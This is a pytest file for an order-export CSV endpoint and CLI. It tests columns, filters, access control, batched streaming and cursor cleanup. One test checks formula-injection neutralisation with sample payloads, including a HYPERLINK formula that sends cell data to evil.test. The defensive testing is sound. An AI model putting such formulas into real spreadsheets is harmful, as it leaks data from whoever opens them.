"""`GET /exports/orders.csv` and `ordergraph export-orders`: the columns and their formats,
the filters, formula cells neutralised, who may export and what a bad request hears, the
same bytes from the command line, and a stream that reads in batches and lets go of its
database cursor when the client leaves."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import os
from datetime import UTC, datetime, timedelta
from typing import Any

import asyncpg
import httpx
import pytest
from starlette.requests import ClientDisconnect

from ordergraph.domain import order_export
from ordergraph.domain.order_search import order_query
from ordergraph.models import Order, OrderItem, OrderStatus, PaymentStatus, Product, User
from ordergraph.web.exports import ClosingStream
from tests.conftest import Harness, postgres_only
from tests.utils.helpers import make_product, run_ordergraph

T0 = datetime(2026, 11, 1, 12, 0, tzinfo=UTC)
HEADER = [
    "id",
    "created",
    "status",
    "payment_status",
    "email",
    "subtotal",
    "discount",
    "shipping",
    "tax",
    "total",
    "refunded",
    "currency",
    "lines",
    "shipping_country",
    "tracking",
]
EVIL_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'


async def _order(
    product: Product,
    *,
    created: datetime = T0,
    status: OrderStatus = OrderStatus.SHIPPED,
    lines: tuple[tuple[str, int], ...] = (("Tee", 2),),
    **fields: Any,
) -> Order:
    await User.get_or_create(id="alice", defaults={"email": "alice@example.com"})
    values: dict[str, Any] = {
        "user_id": "alice",
        "currency": "USD",
        "status": status,
        "payment_status": PaymentStatus.PAID,
        "subtotal": 5000,
        "total": 5000,
        "created_at": created,
        **fields,
    }
    order = await Order.create(**values)
    await OrderItem.bulk_create(
        [
            OrderItem(
                order_id=order.id,
                product_id=product.id,
                product_name=name,
                unit_price=product.price,
                quantity=quantity,
            )
            for name, quantity in lines
        ]
    )
    return order


async def _export(app: Harness, token: str | None = None, **params: str) -> httpx.Response:
    token = token if token is not None else app.token("sam", staff=True)
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return await app.http.get(f"{app.url}/exports/orders.csv", params=params, headers=headers)


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == HEADER
    return rows[1:]


async def test_columns_money_lines_and_formats(app: Harness) -> None:
    tee = await make_product("TEE", price=2500)
    paid = await _order(
        tee,
        lines=(("Tee", 2), ("Mug, large", 1)),
        subtotal=5500,
        discount=500,
        shipping_cost=495,
        tax=1000,
        total=6495,
        amount_refunded=1250,
        email="alice@example.com",
        customer_email="alice@stripe.test",
        shipping_address={"name": "Alice", "line1": "Main St 1", "country": "DE"},
        tracking_number="1Z999",
    )
    yen = await _order(
        tee,
        created=T0 + timedelta(seconds=1),
        status=OrderStatus.PENDING_PAYMENT,
        payment_status=PaymentStatus.PENDING,
        currency="JPY",
        subtotal=1200,
        total=1200,
        email="guest@example.com",
    )

    response = await _export(app)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    assert response.text.startswith(",".join(HEADER) + "\r\n")
    assert _rows(response) == [
        [
            str(paid.id),
            "2026-11-01T12:00:00Z",
            "SHIPPED",
            "PAID",
            "alice@stripe.test",
            "55.00",
            "5.00",
            "4.95",
            "10.00",
            "64.95",
            "12.50",
            "USD",
            "2 x Tee; 1 x Mug, large",
            "DE",
            "1Z999",
        ],
        [
            str(yen.id),
            "2026-11-01T12:00:01Z",
            "PENDING_PAYMENT",
            "PENDING",
            "guest@example.com",
            "1200",
            "0",
            "0",
            "0",
            "1200",
            "0",
            "JPY",
            "2 x Tee",
            "",
            "",
        ],
    ]


async def test_from_to_and_status_filter_the_rows(app: Harness) -> None:
    tee = await make_product("TEE")
    first = await _order(tee, created=T0)  # 2026-11-01 12:00
    late = await _order(tee, created=T0 + timedelta(hours=12), status=OrderStatus.DELIVERED)
    second = await _order(tee, created=T0 + timedelta(days=1))  # 2026-11-02 12:00

    def ids(response: httpx.Response) -> list[str]:
        return [row[0] for row in _rows(response)]

    assert ids(await _export(app)) == [str(first.id), str(late.id), str(second.id)]
    # A date as `to` is its whole day; as `from`, its first moment.
    assert ids(await _export(app, to="2026-11-01")) == [str(first.id)]
    assert ids(await _export(app, **{"from": "2026-11-02"})) == [str(late.id), str(second.id)]
    assert ids(await _export(app, **{"from": "2026-11-02", "to": "2026-11-02"})) == [
        str(late.id),
        str(second.id),
    ]
    # Date-times are inclusive; one without an offset is UTC.
    assert ids(await _export(app, to="2026-11-01T12:00:00")) == [str(first.id)]
    assert ids(await _export(app, **{"from": "2026-11-02T13:00:00+01:00"})) == [str(second.id)]
    for status in ("shipped", "Shipped", "SHIPPED"):
        assert ids(await _export(app, status=status)) == [str(first.id), str(second.id)]
    assert ids(await _export(app, status="delivered", to="2026-11-02")) == [str(late.id)]
    assert ids(await _export(app, status="cancelled")) == []


async def test_formula_cells_are_neutralised(app: Harness) -> None:
    tee = await make_product("TEE")
    order = await _order(
        tee,
        lines=(("Tee", 2), (EVIL_NAME, 1), ("@SUM(1+1)", 1)),
        customer_email="+1@evil.test",
        tracking_number="-2+3",
        shipping_address={"country": "\t=cmd"},
    )
    [row] = _rows(await _export(app))
    assert row[0] == str(order.id)
    assert row[4] == "'+1@evil.test"
    assert row[12] == f"2 x Tee; 1 x '{EVIL_NAME}; 1 x '@SUM(1+1)"
    assert row[13] == "'\t=cmd"
    assert row[14] == "'-2+3"
    assert order_export.neutralise("  =1") == "'  =1"
    assert order_export.neutralise("\uff1d1") == "'\uff1d1"
    assert order_export.neutralise("a=1") == "a=1"


async def test_only_staff_may_export_and_bad_requests_say_why(app: Harness) -> None:
    tee = await make_product("TEE")
    await _order(tee)
    nobody = await _export(app, token="")
    assert nobody.status_code == 401 and nobody.headers["www-authenticate"].startswith("Bearer")
    forged = await _export(app, token="not.a.token")
    assert forged.status_code == 401 and "invalid token" in forged.text
    basic = await app.http.get(
        f"{app.url}/exports/orders.csv", headers={"Authorization": "Basic YTpi"}
    )
    assert basic.status_code == 401
    shopper = await _export(app, token=app.token("alice"))
    assert shopper.status_code == 403 and "order" not in shopper.text.lower()

    for params, reason in (
        ({"from": "yesterday"}, "from must be an ISO date"),
        ({"to": "2026-13-01"}, "to must be an ISO date"),
        ({"from": "2026-11-02", "to": "2026-11-01"}, "from is after to"),
        ({"status": "lost"}, "status must be one of PENDING_PAYMENT"),
        ({"state": "shipped"}, "unknown parameter 'state'"),
    ):
        refused = await _export(app, **params)
        assert refused.status_code == 400, params
        assert reason in refused.text, (params, refused.text)
    twice = await app.http.get(
        f"{app.url}/exports/orders.csv?status=shipped&status=paid",
        headers={"Authorization": f"Bearer {app.token('sam', staff=True)}"},
    )
    assert twice.status_code == 400 and "more than once" in twice.text


async def test_the_command_writes_the_same_csv(app: Harness) -> None:
    tee = await make_product("TEE")
    for n in range(5):
        await _order(
            tee,
            created=T0 + timedelta(hours=n),
            status=OrderStatus.SHIPPED if n % 2 else OrderStatus.DELIVERED,
            lines=(("Tee", n + 1), (EVIL_NAME, 1)),
            customer_email=f"+{n}@evil.test",
        )
    env = {**os.environ, "DATABASE_URL": app.settings.database_url}
    for args, params in (
        ((), {}),
        (("--status", "shipped", "--from", "2026-11-01T13:00:00Z"), {"status": "shipped"}),
        (("--to", "2026-11-01"), {"to": "2026-11-01"}),
    ):
        if "--from" in args:
            params["from"] = "2026-11-01T13:00:00Z"
        code, stdout, stderr = await run_ordergraph("export-orders", *args, env=env)
        assert code == 0, stderr[-2000:]
        http = await _export(app, **params)
        assert http.status_code == 200
        assert stdout == http.text
        assert len(_rows(http)) >= 1
    code, _, stderr = await run_ordergraph("export-orders", "--status", "lost", env=env)
    assert code == 2 and "status must be one of" in stderr


async def test_rows_come_in_batches_without_loss_or_repeat(
    app: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Small batches and chunks: SQLite's keyset batches cross orders created at the same
    instant (the id breaks the tie), PostgreSQL's cursor fetches a few rows at a time."""
    monkeypatch.setattr(order_export, "BATCH", 3)
    monkeypatch.setattr(order_export, "CHUNK_CHARS", 200)
    tee = await make_product("TEE")
    made = [await _order(tee, created=T0 + timedelta(seconds=n // 4)) for n in range(17)]
    expected = sorted(made, key=lambda o: (o.created_at, str(o.id)))
    async with app.http.stream(
        "GET",
        f"{app.url}/exports/orders.csv",
        headers={"Authorization": f"Bearer {app.token('sam', staff=True)}"},
    ) as response:
        chunks = [chunk async for chunk in response.aiter_text()]
    assert len(chunks) > 3
    rows = list(csv.reader(io.StringIO("".join(chunks), newline="")))[1:]
    assert [row[0] for row in rows] == [str(o.id) for o in expected]


@postgres_only
@pytest.mark.parametrize("spec", ["2.3", "2.4"])
async def test_a_client_that_leaves_releases_the_cursor(
    app: Harness, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, spec: str
) -> None:
    """The response as uvicorn drives it, with a client that stops reading mid-export and
    leaves: under ASGI 2.3 (uvicorn's) Starlette cancels the streaming task when the
    disconnect arrives; under 2.4 `send` raises. Either way the cursor's transaction ends at
    once and the connection goes back to the pool clean (asyncpg complains otherwise)."""
    monkeypatch.setattr(order_export, "BATCH", 5)
    monkeypatch.setattr(order_export, "CHUNK_CHARS", 100)
    tee = await make_product("TEE")
    for _ in range(60):
        await _order(tee)
    watcher = await asyncpg.connect(app.settings.database_url)

    async def open_cursors() -> int:
        count: int = await watcher.fetchval(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
            " AND state = 'idle in transaction' AND query LIKE '%json_agg%'"
        )
        return count

    left = asyncio.Event()
    bodies = 0
    seen_open = 0

    async def send(message: dict[str, object]) -> None:
        nonlocal bodies, seen_open
        if message["type"] != "http.response.body":
            return
        bodies += 1
        if bodies < 3:
            return
        seen_open = await open_cursors()
        left.set()
        if spec == "2.4":
            raise OSError("the client left")
        await asyncio.Event().wait()  # a client that no longer reads

    async def receive() -> dict[str, object]:
        await left.wait()
        return {"type": "http.disconnect"}

    response = ClosingStream(
        order_export.csv_chunks(order_query()), media_type="text/csv", headers={}
    )
    scope = {"type": "http", "asgi": {"version": "3.0", "spec_version": spec}}
    with contextlib.suppress(ClientDisconnect):
        await response(scope, receive, send)  # type: ignore[arg-type]
    try:
        assert seen_open == 1  # mid-export, the cursor's transaction was open
        assert await open_cursors() == 0
        assert "active transaction" not in caplog.text
    finally:
        await watcher.close()
